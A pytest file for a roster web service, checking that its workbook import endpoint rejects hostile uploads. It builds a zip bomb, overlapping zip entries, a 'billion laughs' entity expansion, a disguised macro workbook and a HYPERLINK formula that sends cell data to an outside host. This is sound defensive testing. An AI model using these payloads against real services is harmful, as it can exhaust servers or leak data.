"""Workbooks made to do harm are refused in words, by a service that stays small and goes on answering."""

from __future__ import annotations

import io
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import httpx2
import pytest
from openpyxl import load_workbook

from hub_roster.exchange.workbook import write_workbook
from hub_roster.store.accounts import Grant
from hub_roster.store.database import ADDRESS, Database
from hub_roster.store.migrating import upgrade
from hub_roster.store.tables import Role
from tests import tiny
from tests.api.served import PASSWORD, Served
from tests.cli.test_serving import free_port, wait_until_ready
from tests.faults.mutations import packed, unpacked

HUB = tiny.hub(tiny.people("ann"), tiny.shift("early", "Mon"))
IMPORT = "/api/v1/imports/preview"
MEGABYTE = 1024 * 1024

MOST_MEGABYTES = 400
"""More memory than the process had before: each of these could fill a machine."""

MOST_SECONDS = 30
"""For an answer, on a machine however busy: each of these could take hours."""

MACRO = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
PLAIN = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


@dataclass(frozen=True)
class WebProcess:
    """A web process of its own, and somebody signed in with it."""

    client: httpx2.Client
    pid: int

    def send(self, content: bytes, name: str = "hub.xlsx") -> httpx2.Response:
        """Send a workbook to see what it would change."""
        return self.client.post(IMPORT, files={"workbook": (name, content)})

    @property
    def megabytes(self) -> float:
        """The most memory it ever had."""
        status = Path(f"/proc/{self.pid}/status").read_text()
        (peak,) = (line.split()[1] for line in status.splitlines() if line.startswith("VmHWM"))
        return int(peak) / 1024


@pytest.fixture(scope="module")
def web(tmp_path_factory: pytest.TempPathFactory) -> Iterator[WebProcess]:
    """Start a web process."""
    address = f"sqlite:///{tmp_path_factory.mktemp('web') / 'hub-roster.db'}"
    database = Database(address)
    upgrade(database)
    Served(database).account("it@example.org", Grant(Role.ADMINISTRATOR))
    database.close()
    port = free_port()
    command = [sys.executable, "-m", "hub_roster.cli", "web", "--plain-http", "--port", str(port)]
    process = subprocess.Popen(command, env={ADDRESS: address}, stderr=subprocess.DEVNULL)
    try:
        wait_until_ready(port)
        with httpx2.Client(base_url=f"http://127.0.0.1:{port}", timeout=MOST_SECONDS) as client:
            said = client.post("/api/v1/sign-in", json={"name": "it@example.org", "password": PASSWORD})
            client.headers["X-Form-Token"] = said.json()["form_token"]
            yield WebProcess(client, process.pid)
    finally:
        process.terminate()
        process.wait(MOST_SECONDS)


@pytest.fixture(scope="module")
def sound(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """Give a workbook with nothing wrong."""
    path = tmp_path_factory.mktemp("sound") / "hub.xlsx"
    write_workbook(HUB, path)
    return path.read_bytes()


def with_part(content: bytes, name: str, part: bytes) -> bytes:
    """Put a part into a workbook, or in place of one."""
    return packed({**unpacked(content), name: part})


def bomb(content: bytes) -> bytes:
    """Let a sheet unpack to a gigabyte."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as container:
        for name, part in unpacked(content).items():
            with container.open(name, "w") as entry:
                entry.write(part)
                for _ in range(1024 if name.endswith("sheet1.xml") else 0):
                    entry.write(b" " * MEGABYTE)
    return made.getvalue()


def overlapping(content: bytes) -> bytes:
    """Let ten thousand entries be the same megabyte, as quoted by the directory over and over."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as container:
        for name, part in unpacked(content).items():
            container.writestr(name, part)
        container.writestr("xl/media/0.bin", b" " * MEGABYTE)
        entry = container.getinfo("xl/media/0.bin")
        for number in range(1, 10_000):
            twin = zipfile.ZipInfo(f"xl/media/{number}.bin")
            for field in ("header_offset", "compress_size", "file_size", "CRC", "compress_type"):
                setattr(twin, field, getattr(entry, field))
            container.filelist.append(twin)
            container.NameToInfo[twin.filename] = twin
    return made.getvalue()


def laughing(content: bytes) -> bytes:
    """Let entities of entities of entities stand for a gigabyte of text in a cell."""
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    head = f'<!DOCTYPE worksheet [<!ENTITY l0 "ha">{entities}]>'.encode()
    markup = unpacked(content)["xl/worksheets/sheet1.xml"].replace(b"<t>", b"<t>&l9;", 1)
    return with_part(content, "xl/worksheets/sheet1.xml", head + markup)


def with_macros(content: bytes) -> bytes:
    """Make it a workbook with a program in it, under the name of one without."""
    types = unpacked(content)["[Content_Types].xml"].replace(PLAIN, MACRO)
    return with_part(
        with_part(content, "[Content_Types].xml", types), "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0"
    )


def with_formula(content: bytes) -> bytes:
    """Let a name be a formula that would fetch something from elsewhere."""
    book = load_workbook(io.BytesIO(content))
    book["People"]["B2"] = '=HYPERLINK("http://example.org/"&A2,"Ann")'
    saved = io.BytesIO()
    book.save(saved)
    return saved.getvalue()


HARMS: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "a small file that unpacks to a gigabyte": (bomb, "far too large"),
    "entries that overlap": (overlapping, "far too large"),
    "entities of entities": (laughing, "damaged"),
    "macros": (with_macros, "macros"),
    "a formula": (with_formula, "holds a formula"),
}


def test_a_file_cut_short_is_refused(web: WebProcess, sound: bytes) -> None:
    """At every twentieth of it."""
    for part in range(20):
        answer = web.send(sound[: len(sound) * part // 20])
        assert answer.status_code == 422
        assert answer.json()["faults"]


@pytest.mark.parametrize("harm", list(HARMS))
def test_what_is_made_to_do_harm_is_refused(web: WebProcess, sound: bytes, harm: str) -> None:
    """With little memory, and in a sentence."""
    make, words = HARMS[harm]
    before = web.megabytes
    answer = web.send(make(sound))
    assert answer.status_code == 422
    assert [words in fault["message"] for fault in answer.json()["faults"]] == [True]
    assert web.megabytes - before < MOST_MEGABYTES
    assert web.send(sound).status_code == 200


@pytest.mark.parametrize("size", [21, 100])
@pytest.mark.parametrize("said", [True, False])
def test_a_hundred_megabytes_are_refused(web: WebProcess, size: int, said: bool) -> None:
    """Whatever they are, and whether the request says its length or goes on and on."""
    before = web.megabytes
    whole = web.client.build_request(
        "POST", IMPORT, files={"workbook": ("hub.xlsx", b"\0" * size * MEGABYTE)}
    )
    whole.read()
    content = (
        whole.content
        if said
        else (whole.content[at : at + MEGABYTE] for at in range(0, len(whole.content), MEGABYTE))
    )
    answer = web.client.post(IMPORT, content=content, headers={"Content-Type": whole.headers["Content-Type"]})
    assert answer.status_code == 413
    assert "far too large" in answer.json()["detail"]
    assert web.megabytes - before < MOST_MEGABYTES
